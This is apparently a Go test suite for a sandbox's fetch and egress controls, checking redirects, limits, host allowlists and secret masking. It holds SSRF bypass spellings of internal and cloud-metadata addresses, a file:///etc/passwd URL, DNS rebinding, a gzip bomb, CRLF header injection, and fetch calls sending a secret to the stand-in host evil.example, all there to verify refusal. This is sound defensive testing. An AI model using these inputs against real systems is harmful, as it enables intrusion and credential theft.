package sandbox_test

import (
	"bytes"
	"compress/gzip"
	"context"
	"crypto/x509"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/airlock-run/airlock/sandbox"
)

// names is a resolver. It returns the addresses of a name in turn: the second lookup finds the second address.
type names struct {
	mu    sync.Mutex
	addrs map[string][]string
}

func (n *names) LookupNetIP(_ context.Context, _, host string) ([]netip.Addr, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	list := n.addrs[host]
	if len(list) == 0 {
		return nil, errors.New("no such host")
	}
	if len(list) > 1 {
		n.addrs[host] = list[1:]
	}
	return []netip.Addr{netip.MustParseAddr(list[0])}, nil
}

// origin is a server that stands in for every public address: all connections lead to it.
type origin struct {
	plain, tls *httptest.Server
	mu         sync.Mutex
	dialled    []string
	seen       []*http.Request
	bodies     []string
	ended      <-chan struct{} // closed when the test ends
}

func newOrigin(t *testing.T) *origin {
	o := &origin{ended: t.Context().Done()}
	h := http.HandlerFunc(o.serve)
	o.plain, o.tls = httptest.NewServer(h), httptest.NewTLSServer(h)
	t.Cleanup(o.plain.Close)
	t.Cleanup(o.tls.Close)
	return o
}

func (o *origin) dial(ctx context.Context, network, address string) (net.Conn, error) {
	o.mu.Lock()
	o.dialled = append(o.dialled, address)
	o.mu.Unlock()
	to := o.plain.Listener.Addr().String()
	if strings.HasSuffix(address, ":443") {
		to = o.tls.Listener.Addr().String()
	}
	return new(net.Dialer).DialContext(ctx, network, to)
}

func (o *origin) serve(w http.ResponseWriter, q *http.Request) {
	body, _ := io.ReadAll(q.Body)
	o.mu.Lock()
	o.seen, o.bodies = append(o.seen, q), append(o.bodies, string(body))
	o.mu.Unlock()
	switch {
	case strings.HasPrefix(q.URL.Path, "/to/"):
		w.Header().Set("Location", q.URL.Query().Get("url"))
		code := 302
		_, _ = fmt.Sscanf(q.URL.Path, "/to/%d", &code)
		w.WriteHeader(code)
	case q.URL.Path == "/loop":
		http.Redirect(w, q, "/loop", http.StatusFound)
	case q.URL.Path == "/bomb":
		w.Header().Set("Content-Encoding", "gzip")
		z := gzip.NewWriter(w)
		for range 64 {
			_, _ = z.Write(make([]byte, 1<<20))
		}
		_ = z.Close()
	case q.URL.Path == "/headers":
		for i := range 100_000 {
			w.Header().Set("X-"+strconv.Itoa(i), "y")
		}
	case q.URL.Path == "/slow":
		w.(http.Flusher).Flush()
		<-o.ended
	case q.URL.Path == "/stream":
		for i := range 3 {
			fmt.Fprintf(w, "part%d;", i)
			w.(http.Flusher).Flush()
		}
	default:
		w.Header().Set("Content-Type", "application/json")
		w.Header().Add("Set-Cookie", "a=1")
		w.Header().Add("Set-Cookie", "b=2")
		w.Header().Set("X-Echo", q.Header.Get("X-Key"))
		_ = json.NewEncoder(w).Encode(map[string]any{"method": q.Method, "host": q.Host, "url": q.URL.String(),
			"headers": q.Header, "body": string(body)})
	}
}

func (o *origin) engine(t *testing.T, n *names) *sandbox.Engine {
	roots := x509.NewCertPool()
	roots.AddCert(o.tls.Certificate())
	e, err := sandbox.New(t.Context(),
		sandbox.Config{EngineBuild: testBuild, CacheDir: "/tmp/airlock-test-cache", SkipSelfTest: true,
			Egress: sandbox.Egress{Resolver: n, Dial: o.dial, RootCAs: roots}})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = e.Close(context.Background()) })
	return e
}

func TestFetch(t *testing.T) {
	o := newOrigin(t)
	e := o.engine(t,
		&names{addrs: map[string][]string{"example.com": {"93.184.216.34"}, "other.example.org": {"93.184.216.35"}}})
	grants := sandbox.Grants{Network: sandbox.Network{Mode: sandbox.NetworkPublic}}
	for _, c := range []struct{ name, code, want string }{
		{"json", "(await (await fetch('http://example.com/a?b=1#frag')).json()).url", `"/a?b=1"`},
		{"tls", "(await fetch('https://example.com/')).status", "200"},
		{"data", "const r = await fetch('data:text/plain;charset=utf-8;base64,aMOp#x'); " +
			"[r.status, r.headers.get('content-type'), await r.text(), r.type]",
			`[200,"text/plain;charset=utf-8","hé","basic"]`},
		{"data without a type", "const r = await fetch('data:,a%20b%zz%'); [r.headers.get('content-type'), await r.text()]",
			`["text/plain;charset=US-ASCII","a b%zz%"]`},
		{"data that is not base64", "await fetch('data:;base64,*').catch(e => e.message)",
			`"fetch failed: the data URL is not valid base64"`},
		{"data without a comma", "await fetch('data:x').catch(e => e.message)", `"fetch failed: the data URL has no comma"`},
		{"post",
			"const r = await (await fetch('http://example.com/', {method: 'post', body: JSON.stringify({a: 1}), headers: " +
				"{'content-type': 'application/json', 'X-A': 'b'}})).json(); [r.method, r.body, r.headers['X-A'], " +
				"r.headers['Content-Type']]", `["POST","{\"a\":1}",["b"],["application/json"]]`},
		{"bytes",
			"const r = await (await fetch('http://example.com/', {method: 'PUT', body: new Uint8Array([65, 66])})).json(); " +
				"r.body", `"AB"`},
		{"forbidden headers",
			"const r = await (await fetch('http://example.com/', {headers: {Host: 'evil', Connection: 'close', " +
				"'Content-Length': '5', 'Transfer-Encoding': 'chunked', 'Proxy-Authorization': 'x', Cookie: " +
				"'mine=1'}})).json(); [r.host, Object.keys(r.headers).sort().join()]",
			`["example.com","Accept,Accept-Encoding,Cookie,User-Agent"]`},
		{"no ambient cookies",
			"await fetch('http://example.com/'); const r = await (await fetch('http://example.com/')).json(); " +
				"r.headers.Cookie ?? null", "null"},
		{"set-cookie", "(await fetch('http://example.com/')).headers.getSetCookie()", `["a=1","b=2"]`},
		{"redirect", "const r = await fetch('http://example.com/to/302?url=/b'); [r.status, r.redirected, r.url]",
			`[200,true,"http://example.com/b"]`},
		{"redirect of a post",
			"const r = await (await fetch('http://example.com/to/302?url=/b', {method: 'POST', body: 'x'})).json(); " +
				"[r.method, r.body]", `["GET",""]`},
		{"redirect that keeps",
			"const r = await (await fetch('http://example.com/to/307?url=/b', {method: 'POST', body: 'x'})).json(); " +
				"[r.method, r.body]", `["POST","x"]`},
		{"redirect elsewhere drops credentials",
			"const r = await (await fetch('http://example.com/to/302?url=http://other.example.org/', {headers: " +
				"{Authorization: 'Bearer t', Cookie: 'c=1', 'X-Keep': '1'}})).json(); [r.headers.Authorization ?? null, " +
				"r.headers.Cookie ?? null, r.headers['X-Keep']]", `[null,null,["1"]]`},
		{"redirect manual",
			"const r = await fetch('http://example.com/to/301?url=/b', {redirect: 'manual'}); [r.status, " +
				"r.headers.get('location')]", `[301,"/b"]`},
		{"redirect error", "await fetch('http://example.com/to/301?url=/b', {redirect: 'error'}).catch(e => e.name)",
			`"TypeError"`},
		{"redirect loop", "await fetch('http://example.com/loop').catch(e => e.message)",
			`"fetch failed: more than 5 redirects"`},
		{"redirect to the inside", "await fetch('http://example.com/to/302?url=http://127.0.0.1/').catch(e => e.message)",
			`"fetch failed: example.com redirects elsewhere: the address of 127.0.0.1 is not a public one"`},
		{"redirect to a file", "await fetch('http://example.com/to/302?url=file:///etc/passwd').catch(e => e.message)",
			`"fetch failed: example.com redirects elsewhere: the scheme \"file\" is not supported; use https or http"`},
		{"stream",
			"let s = ''; for await (const c of (await fetch('http://example.com/stream')).body) s += new " +
				"TextDecoder().decode(c); s", `"part0;part1;part2;"`},
		{"abort before", "await fetch('http://example.com/', {signal: AbortSignal.abort('no')}).catch(e => e)", `"no"`},
		{"abort while it reads",
			"const c = new AbortController(); const r = await fetch('http://example.com/slow', {signal: c.signal}); " +
				"setTimeout(() => c.abort(), 5); await r.text().catch(e => e.name)", `"AbortError"`},
		{"timeout",
			"await fetch('http://example.com/slow', {signal: AbortSignal.timeout(10)}).then(r => r.text()).catch(e => e.name)",
			`"TimeoutError"`},
		{"cancelled body", "const r = await fetch('http://example.com/slow'); await r.body.cancel(); 'done'", `"done"`},
		{"no such host", "await fetch('http://nowhere.example/').catch(e => e.message)",
			`"fetch failed: the host nowhere.example cannot be resolved"`},
		{"100,000 headers", "await fetch('https://example.com/headers').catch(e => e.message)",
			`"fetch failed: the headers of the response from example.com are longer than 64 KiB"`},
		{"line breaks in a header",
			"try { await fetch('http://example.com/', {headers: {'X-A': 'a\\r\\nX-B: c'}}) } catch (e) { return e.name }",
			`"TypeError"`},
		{"line breaks in a method",
			"await fetch('http://example.com/', {method: 'GET / HTTP/1.1\\r\\nX: y'}).catch(e => e.name)", `"TypeError"`},
		{"patched prototypes",
			"Object.prototype.toJSON = () => 'x'; Object.prototype.hasBody = true; Object.prototype.method = 'DELETE'; " +
				"Array.prototype.toJSON = () => 'y'; (await fetch('http://example.com/')).status", "200"},
		{"many at once",
			"(await Promise.all(Array.from({length: 20}, (_, i) => fetch('http://example.com/' + i).then(r => " +
				"r.json()).then(j => j.url)))).length", "20"},
		{"the port of another protocol", "await fetch('http://example.com:25/').catch(e => e.message)",
			`"fetch failed: port 25 is not one that HTTP is served on"`},
		{"http module",
			"await new Promise((ok) => { const q = require('http').request('http://example.com/h', {method: 'POST', " +
				"headers: {'X-Z': '1'}}, (res) => { let s = ''; res.setEncoding('utf8').on('data', d => s += d).on('end', () " +
				"=> ok([res.statusCode, JSON.parse(s).body])) }); q.write('a'); q.end('b') })", `[200,"ab"]`},
		{"http module's errors",
			"await new Promise((ok) => require('https').get('https://nowhere.example/').on('error', e => ok(e.code)))",
			`"ENOTFOUND"`},
		{"api.request",
			"const r = await api.request({method: 'POST', url: 'http://example.com/x', query: {q: 'a b'}, body: {n: 1}}); " +
				"[r.status, r.data.url, r.data.body]", `[200,"/x?q=a+b","{\"n\":1}"]`},
	} {
		t.Run(c.name, func(t *testing.T) {
			g := grants
			g.Modules = []string{"*"}
			r, err := e.Run(t.Context(), sandbox.Script{Code: c.code}, g)
			if err != nil || string(r.Value) != c.want {
				t.Errorf("got %s %s %v\nwant %s", r.Value, r.Error, err, c.want)
			}
		})
	}
}

func TestFetchLimits(t *testing.T) {
	o := newOrigin(t)
	e := o.engine(t, &names{addrs: map[string][]string{"example.com": {"93.184.216.34"}}})
	grants := sandbox.Grants{Network: sandbox.Network{Mode: sandbox.NetworkPublic},
		Limits: sandbox.Limits{FetchBytes: 1 << 20, APICalls: 3}}
	for _, c := range []struct {
		code  string
		limit sandbox.Limit
	}{
		{"await (await fetch('http://example.com/bomb')).text()", sandbox.LimitFetchBytes},
		{"try { await fetch('http://example.com/', {method: 'POST', body: 'x'.repeat(2 ** 21)}) } catch {}",
			sandbox.LimitFetchBytes},
		{
			"const f = new FormData(); for (let i = 0; i < 3000; i++) f.append('k' + i, 'v'.repeat(1000)); await " +
				"fetch('http://example.com/', {method: 'POST', body: f})", sandbox.LimitFetchBytes,
		},
		{"for (;;) await fetch('http://example.com/')", sandbox.LimitAPICalls},
		{"await (await fetch('http://example.com/slow')).text()", sandbox.LimitWall},
	} {
		grants.Limits.Wall = 20 * time.Second
		if c.limit == sandbox.LimitWall {
			grants.Limits.Wall = 500 * time.Millisecond
		}
		r, err := e.Run(t.Context(), sandbox.Script{Code: c.code}, grants)
		if err != nil || r.Limit != c.limit {
			t.Errorf("%s: %q %s %v, want %q", c.code, r.Limit, r.Error, err, c.limit)
		}
	}
}

// TestEgressRefuses tries every known spelling of an internal address.
func TestEgressRefuses(t *testing.T) {
	o := newOrigin(t)
	inside := map[string][]string{}
	for i, a := range []string{
		"127.0.0.1", "10.0.0.1", "172.16.0.1", "192.168.1.1", "169.254.169.254", "100.64.0.1", "0.0.0.0", "224.0.0.1",
		"255.255.255.255", "192.0.2.1",
		"198.18.0.1", "168.63.129.16", "::1", "::", "fe80::1", "fc00::1", "fd00:ec2::254", "ff02::1", "::ffff:127.0.0.1",
		"::ffff:10.0.0.1", "::127.0.0.1",
		"64:ff9b::7f00:1", "64:ff9b::a9fe:a9fe", "64:ff9b:1::1", "2002:7f00:1::", "2001::1", "2001:db8::1", "100::1",
		"3fff::1", "fec0::1",
	} {
		inside[fmt.Sprintf("n%d.example", i)] = []string{a}
	}
	inside["rebinding.example"] = []string{"93.184.216.34", "127.0.0.1"}
	e := o.engine(t, &names{addrs: inside})
	urls := []string{
		"http://localhost/", "http://127.0.0.1/", "http://127.1/", "http://2130706433/", "http://0177.0.0.1/",
		"http://0x7f.1/", "http://0x7f000001/", "http://017700000001/",
		"http://127.0.0.1./", "http://[::1]/", "http://[::ffff:127.0.0.1]/", "http://[::ffff:7f00:1]/", "http://[::]/",
		"http://0/", "http://0.0.0.0/",
		"http://169.254.169.254/latest/meta-data/", "http://2852039166/", "http://[64:ff9b::169.254.169.254]/",
		"http://[fd00:ec2::254]/", "http://192.168.0.1/", "http://10.1/",
		"http://①②⑦.⓪.⓪.①/", "http://127。0。0。1/", "http://1.2.3.4.5/", "http://256.256.256.256/",
		"http://user:pass@example.com/", "ftp://example.com/", "file:///etc/passwd", "javascript:1",
		"http:///", "gopher://x/", "http://[fe80::1%25eth0]/", "http://%31%32%37.0.0.1/", "http://127.0.0.1%2f.example.com/",
	}
	for name := range inside {
		if name != "rebinding.example" {
			urls = append(urls, "http://"+name+"/", "https://"+name+"/")
		}
	}
	grants := sandbox.Grants{Network: sandbox.Network{Mode: sandbox.NetworkPublic}}
	for _, u := range urls {
		input, err := json.Marshal(u)
		if err != nil {
			t.Fatal(err)
		}
		r, err := e.Run(t.Context(), sandbox.Script{Code: "await fetch(input).then(r => r.status)", Input: input}, grants)
		if err != nil || !strings.HasPrefix(r.Error, "TypeError: ") {
			t.Errorf("%s: %s %q %v", u, r.Value, r.Error, err)
		}
		if strings.Contains(r.Error, "dial") || strings.Contains(r.Error, "lookup") {
			t.Errorf("%s: the error tells too much: %s", u, r.Error)
		}
	}
	if len(o.dialled) > 0 {
		t.Errorf("connections were made to %v", o.dialled)
	}
	r, err := e.Run(t.Context(),
		sandbox.Script{Code: "const a = (await fetch('http://rebinding.example/')).status; await new Promise(r => " +
			"setTimeout(r, 1)); [a, await fetch('https://rebinding.example/').then(r => r.status, e => e.message)]"}, grants)
	if err != nil || string(r.Value) != `[200,"fetch failed: the address of rebinding.example is not a public one"]` {
		t.Errorf("rebinding: %s %s %v", r.Value, r.Error, err)
	}
}

func TestHostPatterns(t *testing.T) {
	o := newOrigin(t)
	public := "93.184.216.34"
	e := o.engine(t,
		&names{addrs: map[string][]string{"example.com": {public}, "a.example.com": {public}, "b.a.example.com": {public},
			"notexample.com": {public}, "xn--bcher-kva.example": {public}, "inside.example": {"10.0.0.1"},
			"meta.example": {"169.254.169.254"}}})
	for _, c := range []struct {
		mode    sandbox.NetworkMode
		hosts   []string
		opened  []string
		url     string
		allowed bool
	}{
		{sandbox.NetworkNone, nil, nil, "http://example.com/", false},
		{sandbox.NetworkNone, []string{"example.com"}, []string{"example.com"}, "http://example.com/", false},
		{sandbox.NetworkAllowlist, nil, nil, "http://example.com/", false},
		{sandbox.NetworkAllowlist, []string{"example.com"}, nil, "http://example.com/", true},
		{sandbox.NetworkAllowlist, []string{"EXAMPLE.com."}, nil, "http://Example.COM./", true},
		{sandbox.NetworkAllowlist, []string{"example.com"}, nil, "http://a.example.com/", false},
		{sandbox.NetworkAllowlist, []string{"*.example.com"}, nil, "http://a.example.com/", true},
		{sandbox.NetworkAllowlist, []string{"*.example.com"}, nil, "http://b.a.example.com/", true},
		{sandbox.NetworkAllowlist, []string{"*.example.com"}, nil, "http://example.com/", false},
		{sandbox.NetworkAllowlist, []string{"*.example.com"}, nil, "http://notexample.com/", false},
		{sandbox.NetworkAllowlist, []string{"example.com:8080"}, nil, "http://example.com/", false},
		{sandbox.NetworkAllowlist, []string{"example.com:8080"}, nil, "http://example.com:8080/", true},
		{sandbox.NetworkAllowlist, []string{"example.com"}, nil, "http://example.com:8080/", true},
		{sandbox.NetworkAllowlist, []string{"bücher.example"}, nil, "http://xn--bcher-kva.example/", true},
		{sandbox.NetworkPublic, []string{"a.example.com"}, nil, "http://example.com/", false},
		{sandbox.NetworkPublic, nil, nil, "http://inside.example/", false},
		{sandbox.NetworkPublic, nil, []string{"inside.example"}, "http://inside.example/", true},
		{sandbox.NetworkAllowlist, []string{"inside.example"}, []string{"inside.example"}, "http://inside.example/", true},
		{sandbox.NetworkAllowlist, []string{"inside.example"}, nil, "http://inside.example/", false},
		{sandbox.NetworkPublic, nil, []string{"meta.example"}, "http://meta.example/", false},
		{sandbox.NetworkPublic, nil, []string{"127.0.0.1"}, "http://127.1/", true},
		{sandbox.NetworkPublic, nil, []string{"127.0.0.1:81"}, "http://127.0.0.1/", false},
		{sandbox.NetworkPublic, nil, []string{"[::1]:81"}, "http://[::1]:81/", true},
		{sandbox.NetworkPublic, nil, []string{"0.0.0.0"}, "http://0.0.0.0/", false},
	} {
		g := sandbox.Grants{Network: sandbox.Network{Mode: c.mode, Hosts: c.hosts, OpenedHosts: c.opened}}
		r, err := e.Run(t.Context(), sandbox.Script{Code: fmt.Sprintf("(await fetch(%q)).status", c.url)}, g)
		if err != nil || (string(r.Value) == "200") != c.allowed {
			t.Errorf("%+v: %s %s %v", c, r.Value, r.Error, err)
		}
	}
}

func TestSecrets(t *testing.T) {
	o := newOrigin(t)
	e := o.engine(t,
		&names{addrs: map[string][]string{"api.example.com": {"93.184.216.34"}, "evil.example": {"93.184.216.35"}}})
	const value = `s3cr"t/+ä`
	grants := sandbox.Grants{Network: sandbox.Network{Mode: sandbox.NetworkPublic,
		Secrets: []sandbox.Secret{{Name: "KEY", Value: value, Hosts: []string{"api.example.com"}}}}}
	run := func(code string) sandbox.Result {
		t.Helper()
		o.seen, o.bodies = nil, nil
		r, err := e.Run(t.Context(), sandbox.Script{Code: code}, grants)
		if err != nil {
			t.Fatal(err)
		}
		for _, text := range []string{string(r.Value), r.Output, r.Error, fmt.Sprint(r.Exception)} {
			if strings.Contains(text, "s3cr") {
				t.Errorf("%s shows the secret: %s", code, text)
			}
		}
		return r
	}
	r := run(
		"console.log(secrets.KEY); const r = await fetch('https://api.example.com/p?k=' + secrets.KEY, {method: 'POST', " +
			"headers: {'X-Key': 'v ' + secrets.KEY, Authorization: 'Basic ' + btoa('u:' + secrets.KEY), 'Content-Type': " +
			"'application/json'}, body: JSON.stringify({k: secrets.KEY})}); const t = await r.text(); " +
			"[t.includes(secrets.KEY), r.headers.get('x-echo') === 'v ' + secrets.KEY, r.url.includes(secrets.KEY)]")
	if string(r.Value) != "[true,true,true]" || len(o.seen) != 1 {
		t.Fatalf("%s %s", r.Value, r.Error)
	}
	q := o.seen[0]
	user, password, _ := q.BasicAuth()
	var body struct{ K string }
	if err := json.Unmarshal([]byte(o.bodies[0]), &body); err != nil || body.K != value {
		t.Errorf("the secret did not arrive in the body: %v %s", err, o.bodies[0])
	}
	if q.URL.Query().Get("k") != value {
		t.Errorf("the secret did not arrive in the query: %q", q.URL)
	}
	if user != "u" || password != value {
		t.Errorf("the secret did not arrive as the password of %q: %s", user, q.Header)
	}
	if got := q.Header.Get("X-Key"); got != "v "+value {
		t.Errorf("header: %q", got)
	}
	for _, code := range []string{
		"await (await fetch('http://evil.example/', {headers: {'X-Key': secrets.KEY}, method: 'POST', body: " +
			"secrets.KEY})).text()",
		"await (await fetch('http://api.example.com/', {headers: {'X-Key': secrets.KEY}})).text()",
		"await (await fetch('https://api.example.com/to/307?url=http://evil.example/', {headers: {'X-Key': " +
			"secrets.KEY}, method: 'POST', body: secrets.KEY})).text()",
	} {
		run(code)
		last := o.seen[len(o.seen)-1]
		if strings.Contains(last.Header.Get("X-Key"), "s3cr") || strings.Contains(o.bodies[len(o.bodies)-1], "s3cr") {
			t.Errorf("%s sent the secret to %s", code, last.Host)
		}
	}
	a, b := run("secrets.KEY"), run("secrets.KEY")
	if bytes.Equal(a.Value, b.Value) {
		t.Error("two runs have the same placeholder")
	}
}
